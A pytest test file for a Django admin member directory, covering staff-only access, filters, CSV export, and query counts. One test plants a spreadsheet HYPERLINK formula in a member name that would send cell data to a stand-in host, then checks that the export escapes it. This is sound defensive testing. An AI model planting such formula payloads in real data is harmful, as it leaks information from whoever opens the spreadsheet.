import csv
import io

import pytest

from members.demo_content import demo_groups_create
from members.factories import MemberFactory
from members.models import MemberProfile, Region, Topic
from members.services.memberships import membership_join

URL = "/admin/member-directory/"
pytestmark = pytest.mark.django_db


@pytest.fixture
def staff_client(client, staff, admin_login):
    return admin_login(staff)


@pytest.fixture
def people(db):
    groups = demo_groups_create()
    carers = next(g for g in groups if g.slug == "carers-voice")
    london = Region.objects.get(name="London")
    carer_topic = Topic.objects.get(name="Carer")
    ana = MemberFactory(email="ana@example.org", name="Ana María Núñez")
    profile = MemberProfile.objects.create(
        user=ana, region=london, format_online=True, available_evenings=True
    )
    profile.topics.add(carer_topic)
    membership_join(member=ana, group=carers, accepted_version=carers.current_ground_rules())
    bob = MemberFactory(email="bob@example.org", name="Bob O'Neill")
    MemberProfile.objects.create(user=bob, format_paper=True)
    return {"ana": ana, "bob": bob, "carers": carers}


def names(response) -> set[str]:
    html = response.content.decode()
    return {n for n in ("Ana María Núñez", "Bob O&#x27;Neill") if n in html}


def test_staff_see_members_with_their_groups_and_region(staff_client, people, researcher):
    html = staff_client.get(URL).content.decode()
    assert "Ana María Núñez" in html
    assert "Carers&#x27; voice (active)" in html or "Carers' voice (active)" in html
    assert "London" in html
    assert researcher.email not in html  # members only


def test_filters_narrow_the_list(staff_client, people):
    assert names(staff_client.get(URL, {"group": people["carers"].pk})) == {"Ana María Núñez"}
    assert names(staff_client.get(URL, {"topic": Topic.objects.get(name="Carer").pk})) == {
        "Ana María Núñez"
    }
    assert names(staff_client.get(URL, {"takes_part": ["format_paper"]})) == {"Bob O&#x27;Neill"}
    assert names(
        staff_client.get(URL, {"takes_part": ["format_online", "available_evenings"]})
    ) == {"Ana María Núñez"}
    assert names(staff_client.get(URL, {"q": "bob@"})) == {"Bob O&#x27;Neill"}


def test_the_csv_export_has_the_filtered_rows(staff_client, people):
    response = staff_client.get(
        URL, {"export": "csv", "region": Region.objects.get(name="London").pk}
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:4] == ["Full name", "Email address", "Groups", "Region"]
    assert [row[1] for row in rows[1:]] == ["ana@example.org"]
    assert rows[1][2] == "Carers' voice (active)"


def test_members_and_researchers_cannot_open_the_directory(client, member, researcher):
    for person in (member, researcher):
        client.force_login(person)
        assert client.get(URL).status_code == 403


def test_the_directory_cannot_edit_or_add_people(staff_client, people):
    assert staff_client.get(URL + "new/").status_code == 404
    html = staff_client.get(URL).content.decode()
    # Rows open the member record (which logs the read), not an edit form.
    assert f'href="/admin/members/{people["ana"].pk}/"' in html
    assert "/admin/users/edit/" not in html


def test_query_count_is_the_same_for_10_and_1000_members(staff_client, people):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def count() -> int:
        with CaptureQueriesContext(connection) as ctx:
            assert staff_client.get(URL).status_code == 200
        return len(ctx.captured_queries)

    for n in range(8):
        MemberFactory(email=f"ten{n}@example.org")
    with_ten = count()
    carers = people["carers"]
    MemberFactory.create_batch(990)
    for member in MemberFactory._meta.model.objects.filter(email__startswith="person")[:50]:
        membership_join(member=member, group=carers, accepted_version=carers.current_ground_rules())
    with_a_thousand = count()
    assert with_a_thousand == with_ten, (with_ten, with_a_thousand)


@pytest.fixture
def groups(db):
    return {group.slug: group for group in demo_groups_create()}


def _join(member, group):
    return membership_join(
        member=member, group=group, accepted_version=group.current_ground_rules()
    )


def test_directory_csv_keeps_formulas_as_text(client, staff, admin_login, groups):
    MemberFactory(email="evil@example.org", name='=HYPERLINK("http://x.invalid/?"&B2,"hi")')
    admin_login(staff)
    response = client.get("/admin/member-directory/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = [row[0] for row in rows[1:]]
    assert '\'=HYPERLINK("http://x.invalid/?"&B2,"hi")' in names


def test_directory_group_and_status_filters_describe_one_membership(
    client, staff, admin_login, groups
):
    person = MemberFactory(email="two@example.org", name="Two Groups")
    _join(person, groups["living-with-diabetes"])  # active here
    _join(person, groups["mental-health-lived-experience-panel"])  # applied there
    admin_login(staff)
    response = client.get(
        "/admin/member-directory/",
        {"group": groups["living-with-diabetes"].pk, "status": "applied"},
    )
    assert "Two Groups" not in response.content.decode()


def test_filtering_by_a_category_finds_members_who_chose_a_condition_beneath_it(
    staff_client, people
):
    people["bob"].profile.topics.add(Topic.objects.get(name="Asthma"))
    lungs = Topic.objects.get(name="Lungs and breathing")
    assert names(staff_client.get(URL, {"topic": lungs.pk})) == {"Bob O&#x27;Neill"}
    asthma = Topic.objects.get(name="Asthma")
    assert names(staff_client.get(URL, {"topic": asthma.pk})) == {"Bob O&#x27;Neill"}
    copd = Topic.objects.get(name="COPD")
    assert names(staff_client.get(URL, {"topic": copd.pk})) == set()
